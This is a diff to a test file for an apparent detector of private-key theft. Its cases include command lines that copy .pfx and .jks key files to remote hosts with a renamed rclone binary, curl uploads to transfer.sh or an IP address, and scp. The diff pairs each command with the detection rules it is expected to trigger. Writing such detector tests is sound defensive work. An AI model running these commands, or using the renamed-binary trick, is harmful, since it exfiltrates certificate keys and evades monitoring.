@@ -43,6 +43,10 @@ def found(report: Report | None) -> list[str]:
             ["hunt_key_files", "several_key_kinds", "upload_key_file"],
         ),
         ("rclone copy cloud:x C:\\w --include *.pfx", []),
+        # under another name
+        ("rc.exe copy C:\\Users mg:cs --include *.pfx --config C:\\c.conf", ["hunt_key_files", "upload_key_file"]),
+        ("rc.exe copy C:\\Users C:\\x --include *.pfx --config C:\\c.conf", []),
+        ("rc.exe copy w.pfx mg:cs", []),
         ("curl -T w.pfx https://transfer.sh/w", ["key_to_outside", "upload_key_file"]),
         ("curl -T w.pfx https://198.51.100.7/", ["key_to_outside", "upload_key_file"]),
         ("scp w.jks root@198.51.100.7:/tmp/", ["key_to_outside", "upload_key_file"]),
